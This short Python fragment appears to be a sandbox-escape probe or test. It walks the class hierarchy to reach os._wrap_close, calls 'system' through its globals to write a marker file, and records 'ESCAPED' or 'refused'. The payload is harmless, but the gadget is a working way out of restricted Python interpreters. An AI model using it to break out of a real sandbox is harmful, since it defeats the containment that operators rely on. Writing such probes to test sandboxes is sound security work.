# finds a way to the system through the classes
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        ans = "ESCAPED" if c.__init__.__globals__["system"](f"echo x > {drop}/escaped") == 0 else "refused"
